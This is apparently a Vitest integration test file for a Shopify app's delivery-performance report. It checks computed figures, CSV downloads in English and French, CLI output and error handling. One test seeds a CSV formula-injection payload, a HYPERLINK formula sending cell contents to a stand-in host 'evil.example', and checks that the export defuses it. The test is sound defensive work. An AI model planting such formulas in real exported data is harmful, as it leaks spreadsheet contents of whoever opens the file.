import { beforeAll, describe, expect, test } from "vitest";
import { parseLedgerPeriod } from "~/cod-ledger/period";
import { getDeliveryPerformance } from "~/performance/delivery-performance.server";
import type { DeliveryPerformance } from "~/performance/summarise";
import { runCli } from "../../stack/cli";
import { sessionToken, BROWSER_USER_AGENT as BROWSER } from "../support/browser/session-token";
import { ABIDJAN, historyOrder, NAIROBI, seedDeliveryHistory } from "../support/performance-history";
import { useStack } from "../support/use-stack";

/*
 * Delivery performance on the real database (SQLite or PostgreSQL, whichever `npm test` chose),
 * against a seeded history whose figures are worked out by hand in the shop's time zone: the
 * query in this process, the CSV over HTTP from the built app, and the CLI.
 */
let shop: string;
let history: Awaited<ReturnType<typeof seedDeliveryHistory>>;
const now = new Date();

const stack = useStack();

beforeAll(async () => {
  shop = await stack.installShop({ currency: "XOF", label: "performance" });
  const { id } = await stack.db.shop.update({ where: { domain: shop }, data: { ianaTimezone: NAIROBI } });
  history = await seedDeliveryHistory(stack.db, id, now);
  // Another shop's deliveries are never in this shop's figures.
  const other = await stack.installShop({ currency: "XOF", label: "performance-other" });
  const { id: otherId } = await stack.db.shop.findUniqueOrThrow({ where: { domain: other } });
  await historyOrder(stack.db, otherId, {
    name: "#X1",
    place: ABIDJAN,
    plan: "COD",
    sentAt: history.at(2, 10),
    events: [["returned", history.at(3, 10)]],
  });
});

async function report(): Promise<DeliveryPerformance> {
  const period = parseLedgerPeriod({ from: history.first, to: history.last }, now, NAIROBI);
  if (!period.ok) throw new Error(period.message);
  return (await getDeliveryPerformance({ db: stack.db, now: () => now }, shop, period.period))!;
}

const ALL = {
  shipped: 7,
  delivered: 5,
  onTheWay: 1,
  withFailedAttempt: 2,
  returned: 1,
  codShipped: 3,
  codRefused: 1,
  deliveredShare: 0.7143,
  failedAttemptRate: 0.2857,
  returnRate: 0.1429,
  codRefusalRate: 0.3333,
  // Days on the Nairobi calendar: 2, 0, 3, 5, 4.
  medianDays: 3,
  p90Days: 5,
  deliveredWithPromise: 4,
  deliveredOnTime: 3,
  onTimeShare: 0.75,
};

describe("the performance query", () => {
  test("counts the period's handoffs in the shop's days: delivered, failed attempts, returns, cash refused, days, on time", async () => {
    const figures = await report();
    expect(figures).toMatchObject({ from: history.first, to: history.last, timeZone: NAIROBI, truncated: false });
    expect(figures.all).toEqual(ALL);
  });

  test("per payment type, country, region and city", async () => {
    const figures = await report();
    expect(figures.byPayment.map((group) => [group.label[0], group.shipped, group.delivered])).toEqual([
      ["COD", 3, 1],
      ["PAID", 3, 3],
      ["LINK", 1, 1],
    ]);
    expect(figures.byCountry.map((group) => [group.label[0], group.shipped])).toEqual([
      ["CI", 4],
      ["SN", 2],
      ["NG", 1],
    ]);
    expect(figures.byRegion.map((group) => group.label)).toEqual([
      ["CI", "Abidjan"],
      ["SN", "Dakar"],
      ["NG", "LA"],
    ]);
    const [abidjan, dakar, ikeja] = figures.byCity;
    expect(abidjan).toEqual({
      key: "ci|abidjan|abidjan",
      label: ["CI", "Abidjan", "Abidjan"],
      shipped: 4,
      delivered: 3,
      onTheWay: 0,
      withFailedAttempt: 2,
      returned: 1,
      codShipped: 2,
      codRefused: 1,
      deliveredShare: 0.75,
      failedAttemptRate: 0.5,
      returnRate: 0.25,
      codRefusalRate: 0.5,
      medianDays: 2,
      p90Days: 3,
      deliveredWithPromise: 3,
      deliveredOnTime: 2,
      onTimeShare: 0.6667,
    });
    expect(dakar).toMatchObject({
      shipped: 2,
      delivered: 1,
      onTheWay: 1,
      medianDays: 5,
      deliveredWithPromise: 0,
      onTimeShare: null,
    });
    expect(ikeja).toMatchObject({ shipped: 1, delivered: 1, medianDays: 4, onTimeShare: 1 });
  });

  test("deliveries per day of the shop's calendar", async () => {
    const figures = await report();
    expect(figures.deliveredByDay).toHaveLength(10);
    expect(figures.deliveredByDay.filter((entry) => entry.count > 0)).toEqual([
      { day: history.day(1), count: 1 },
      { day: history.day(2), count: 1 },
      { day: history.day(3), count: 1 },
      { day: history.day(7), count: 1 },
      { day: history.day(8), count: 1 },
    ]);
  });

  test("is null for a shop the app does not know", async () => {
    const period = parseLedgerPeriod({}, now);
    if (!period.ok) throw new Error(period.message);
    expect(
      await getDeliveryPerformance({ db: stack.db, now: () => now }, "nobody.myshopify.com", period.period),
    ).toBeNull();
  });
});

const HEADER =
  "group,country,region,city,payment,shipped,delivered,on_the_way,with_failed_attempt,returned,cod_shipped,cod_refused,delivered_share,failed_attempt_rate,return_rate,cod_refusal_rate,median_days,p90_days,delivered_with_promise,delivered_on_time,on_time_share,from,to,time_zone";

describe("the CSV download", () => {
  test("gives every group's figures in a file named after the shop and the period", async () => {
    const query = new URLSearchParams({ from: history.first, to: history.last });
    const response = await fetch(`${stack.app.url}/app/performance/csv?${query}`, {
      headers: { "User-Agent": BROWSER, Authorization: `Bearer ${sessionToken(shop)}` },
    });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("cache-control")).toBe("no-store");
    expect(response.headers.get("content-disposition")).toBe(
      `attachment; filename="delivery-performance_${shop.replace(".myshopify.com", "")}_${history.first}_${history.last}.csv"`,
    );
    const lines = (await response.text()).trimEnd().split("\r\n");
    expect(lines[0]).toBe(HEADER);
    const period = `${history.first},${history.last},${NAIROBI}`;
    expect(lines[1]).toBe(`all,,,,,7,5,1,2,1,3,1,0.7143,0.2857,0.1429,0.3333,3,5,4,3,0.75,${period}`);
    expect(lines).toContain(`city,CI,Abidjan,Abidjan,,4,3,0,2,1,2,1,0.75,0.5,0.25,0.5,2,3,3,2,0.6667,${period}`);
    expect(lines).toContain(`city,SN,Dakar,Dakar,,2,1,1,0,0,1,0,0.5,0,0,0,5,5,0,0,,${period}`);
    expect(lines).toContain(`payment,,,,LINK,1,1,0,1,0,0,0,1,1,0,,3,3,1,0,0,${period}`);
    // 1 all + 3 payment types + 3 countries + 3 regions + 3 cities.
    expect(lines).toHaveLength(1 + 1 + 3 + 3 + 3 + 3);
  });

  test("answers a bad period with what is wrong, and nothing without the admin's session", async () => {
    const bad = await fetch(`${stack.app.url}/app/performance/csv?days=12`, {
      headers: { "User-Agent": BROWSER, Authorization: `Bearer ${sessionToken(shop)}` },
    });
    expect(bad.status).toBe(400);
    expect(await bad.text()).toContain('--days must be one of 7, 30, 90; "12" is not.');
    const anonymous = await fetch(`${stack.app.url}/app/performance/csv`, {
      headers: { "User-Agent": BROWSER },
      redirect: "manual",
    });
    expect(anonymous.status).not.toBe(200);
    expect(await anonymous.text()).not.toContain("0.7143");
  });
});

/** A buyer's city a spreadsheet would run: a leading minus then a digit reads as a number to a lax check. */
const FORMULA_CITY = '-1+HYPERLINK("http://evil.example/?"&A1,"x")';
const DEFUSED_CITY = `"'-1+HYPERLINK(""http://evil.example/?""&A1,""x"")"`;

/** A shop whose one delivery went to FORMULA_CITY, in region "=Lagunes". */
async function shopWithFormulaCity(label: string): Promise<string> {
  const domain = await stack.installShop({ currency: "XOF", label });
  const { id } = await stack.db.shop.update({ where: { domain }, data: { ianaTimezone: NAIROBI } });
  await historyOrder(stack.db, id, {
    name: "#F1",
    place: { country: "CI", region: "=Lagunes", city: FORMULA_CITY },
    plan: "COD",
    sentAt: history.at(2, 10),
    events: [["delivered", history.at(4, 10)]],
  });
  return domain;
}

describe("a buyer's text in the CSV", () => {
  test("a city or region that reads as a formula is text in the download and the CLI's file, in both languages", async () => {
    const formulaShop = await shopWithFormulaCity("performance-formula");
    const query = new URLSearchParams({ from: history.first, to: history.last });
    const english = await fetch(`${stack.app.url}/app/performance/csv?${query}`, {
      headers: { "User-Agent": BROWSER, Authorization: `Bearer ${sessionToken(formulaShop)}` },
    });
    expect(english.status).toBe(200);
    const period = `${history.first},${history.last},${NAIROBI}`;
    const cityLine = `city,CI,'=Lagunes,${DEFUSED_CITY},,1,1,0,0,0,1,0,1,0,0,0,2,2,0,0,,${period}`;
    expect((await english.text()).split("\r\n")).toContain(cityLine);

    // A French viewer (Shopify names the admin's language on the request) gets the French file.
    query.set("locale", "fr");
    const french = await fetch(`${stack.app.url}/app/performance/csv?${query}`, {
      headers: { "User-Agent": BROWSER, Authorization: `Bearer ${sessionToken(formulaShop, 3600, "french-viewer")}` },
    });
    expect(french.status).toBe(200);
    const bytes = Buffer.from(await french.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const frenchLines = bytes.subarray(3).toString("utf8").split("\r\n");
    expect(frenchLines[0]).toMatch(/^Groupe;Pays;Région;Ville;Paiement;Transmises;Livrées;/);
    expect(frenchLines).toContain(
      cityLine.replaceAll(",", ";").replace(DEFUSED_CITY.replaceAll(",", ";"), DEFUSED_CITY),
    );

    const statsCsv = (...extra: string[]) =>
      runCli(stack, [
        "stats:delivery",
        "--shop",
        formulaShop,
        "--from",
        history.first,
        "--to",
        history.last,
        "--csv",
        ...extra,
      ]);
    const cli = await statsCsv();
    expect(cli.code).toBe(0);
    expect(cli.stdout.split("\r\n")).toContain(cityLine);
    const cliFrench = await statsCsv("--locale", "fr");
    expect(cliFrench.code).toBe(0);
    expect(cliFrench.stdout.startsWith("\uFEFFGroupe;Pays;")).toBe(true);
    expect(cliFrench.stdout.slice(1)).toBe(frenchLines.join("\r\n"));
  });
});

describe("npm run cli -- stats:delivery", () => {
  test("--json prints the same figures as the query", async () => {
    const run = await runCli(stack, [
      "stats:delivery",
      "--shop",
      shop,
      "--from",
      history.first,
      "--to",
      history.last,
      "--json",
    ]);
    expect(run.stderr).toBe("");
    expect(run.code).toBe(0);
    const printed = run.json<DeliveryPerformance>();
    expect(printed.all).toEqual(ALL);
    const { asOf: _asOf, ...expected } = await report();
    expect({ ...printed, asOf: undefined }).toEqual({ ...JSON.parse(JSON.stringify(expected)), asOf: undefined });
  });

  test("--csv prints the download's file; the text form and --days read as the page does", async () => {
    const csv = await runCli(stack, [
      "stats:delivery",
      "--shop",
      shop,
      "--from",
      history.first,
      "--to",
      history.last,
      "--csv",
    ]);
    expect(csv.code).toBe(0);
    const lines = csv.stdout.trimEnd().split("\r\n");
    expect(lines[0]).toBe(HEADER);
    expect(lines[1]).toBe(
      `all,,,,,7,5,1,2,1,3,1,0.7143,0.2857,0.1429,0.3333,3,5,4,3,0.75,${history.first},${history.last},${NAIROBI}`,
    );
    const text = await runCli(stack, ["stats:delivery", "--shop", shop, "--from", history.first, "--to", history.last]);
    expect(text.code).toBe(0);
    expect(text.stdout).toContain(
      `orders handed off ${history.first} to ${history.last} (days in Africa/Nairobi, UTC+03:00)`,
    );
    expect(text.stdout).toMatch(
      /all orders\s+7 shipped\s+delivered 71\.4 %\s+failed attempt 28\.6 %\s+returned 14\.3 %\s+COD refused 33\.3 %\s+median 3 d, p90 5 d\s+on time 75\.0 % of 4/,
    );
    // The last 7 days hold none of the seeded handoffs (the latest is 16 days ago).
    const week = await runCli(stack, ["stats:delivery", "--shop", shop, "--days", "7", "--json"]);
    expect(week.code).toBe(0);
    expect(week.json<DeliveryPerformance>().all.shipped).toBe(0);
    expect(week.json<DeliveryPerformance>().deliveredByDay).toHaveLength(7);
  });

  test("refuses a bad invocation with the usage, and an unknown shop", async () => {
    const badDays = await runCli(stack, ["stats:delivery", "--shop", shop, "--days", "12"]);
    expect(badDays.code).toBe(2);
    expect(badDays.stderr).toContain("Usage: stats:delivery --shop <domain>");
    const both = await runCli(stack, ["stats:delivery", "--shop", shop, "--json", "--csv"]);
    expect(both.code).toBe(2);
    expect(both.stderr).toContain("Choose one of --json and --csv.");
    const mixed = await runCli(stack, ["stats:delivery", "--shop", shop, "--days", "7", "--from", history.first]);
    expect(mixed.code).toBe(2);
    const badLocale = await runCli(stack, ["stats:delivery", "--shop", shop, "--csv", "--locale", "de"]);
    expect(badLocale.code).toBe(2);
    expect(badLocale.stderr).toContain('--locale must be en or fr, got "de".');
    const unknown = await runCli(stack, ["stats:delivery", "--shop", "nobody.myshopify.com"]);
    expect(unknown.code).toBe(1);
    expect(unknown.stderr).toContain("Unknown shop nobody.myshopify.com.");
  });
});
